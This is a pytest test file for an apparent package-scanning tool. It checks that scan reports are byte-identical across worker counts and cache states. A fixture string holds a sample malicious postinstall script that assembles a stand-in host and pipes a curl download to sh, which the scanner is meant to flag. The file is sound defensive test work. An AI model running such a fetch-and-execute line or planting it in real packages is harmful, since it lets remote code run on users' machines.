"""The whole program twice: whatever reads, and whatever is remembered, the same question prints the same bytes."""

import os
import subprocess
import sys

import pytest

from lazaretto.bootstrap import output_names
from tests.surfaces.site import Machine, Site

SCRIPT = """const { execSync } = require('child_process');
const host = ['drop', 'example', 'invalid'].join('.');
execSync('curl https://' + host + '/x | sh');
"""


def publish(machine: Machine) -> None:
    """Publish an update with charges, a file that is not understood, and a new dependency with charges of its own."""
    site = machine.site
    site.publish("pad", "1.0.0", age=60)
    manifest = Site.manifest("codec", "2.0.0", scripts={"postinstall": "node setup.js"})
    site.publish("codec", "2.0.0", {"setup.js": SCRIPT, "package.json": manifest}, age=1)
    manifest = Site.manifest("pad", "1.0.1", dependencies={"codec": "^2.0.0"}, scripts={"postinstall": "node setup.js"})
    files = {
        f"lib/{number}.js": f"exports.n = {number};\nrequire('fs').readFileSync('{number}');\n" for number in range(9)
    }
    site.publish(
        "pad",
        "1.0.1",
        {**files, "package.json": manifest, "setup.js": SCRIPT, "broken.js": "require('child_process') ] (\n"},
        age=1,
    )


@pytest.mark.parametrize("form", output_names())
def test_workers_and_memory_change_no_byte(machine: Machine, form: str) -> None:
    """Read here, in one process or in two; with nothing kept, with facts kept, and out of the journal."""
    publish(machine)
    texts = {}
    for workers in (0, 1, 2):
        machine.workers(workers)
        machine.fresh(f"cold-{workers}")
        for memory in ("cold", "journal"):
            texts[workers, memory] = machine.run("scan", "pad@1.0.1", "--format", form, "--verbose")
        (machine.folder / f"cold-{workers}" / "state").rename(machine.folder / f"gone-{workers}")
        texts[workers, "facts"] = machine.run("scan", "pad@1.0.1", "--format", form, "--verbose")

    assert {ran.code for ran in texts.values()} == {1}
    assert len({ran.out for ran in texts.values()}) == 1
    assert "setup.js" in texts[0, "cold"].out


def test_a_project_is_the_same_whatever_is_fetched_first(machine: Machine) -> None:
    """Downloads overlap with reading; the report of a check does not show it."""
    publish(machine)
    pins: dict[str, tuple[str, str | None]] = {"pad": ("1.0.1", None), "codec": ("2.0.0", None)}
    pins |= {f"left{number}": ("1.0.0", machine.site.publish(f"left{number}", "1.0.0")) for number in range(12)}
    (machine.folder / "package-lock.json").write_text(machine.site.lockfile(pins), encoding="utf-8")
    texts = set()
    for workers in (0, 2):
        machine.workers(workers)
        machine.fresh(f"cold-{workers}")
        texts |= {machine.run("check", "--format", "json").out for _ in range(2)}

    assert len(texts) == 1


def test_the_program_itself_runs_and_leaves_nothing_behind(machine: Machine) -> None:
    """As a process of its own: exit code, report on standard output, nothing on standard error."""
    publish(machine)
    machine.workers(1)
    command = [sys.executable, "-m", "lazaretto", "scan", "pad@1.0.1", "--format", "json"]
    done = subprocess.run(
        command, cwd=machine.folder, env=dict(os.environ), capture_output=True, timeout=60, check=False
    )

    assert done.returncode == 1
    assert done.stderr == b""
    assert b'"verdict": "' in done.stdout
    closed = subprocess.run(
        f"{sys.executable} -m lazaretto explain | true",
        shell=True,
        cwd=machine.folder,
        capture_output=True,
        check=False,
    )
    assert closed.stderr == b""
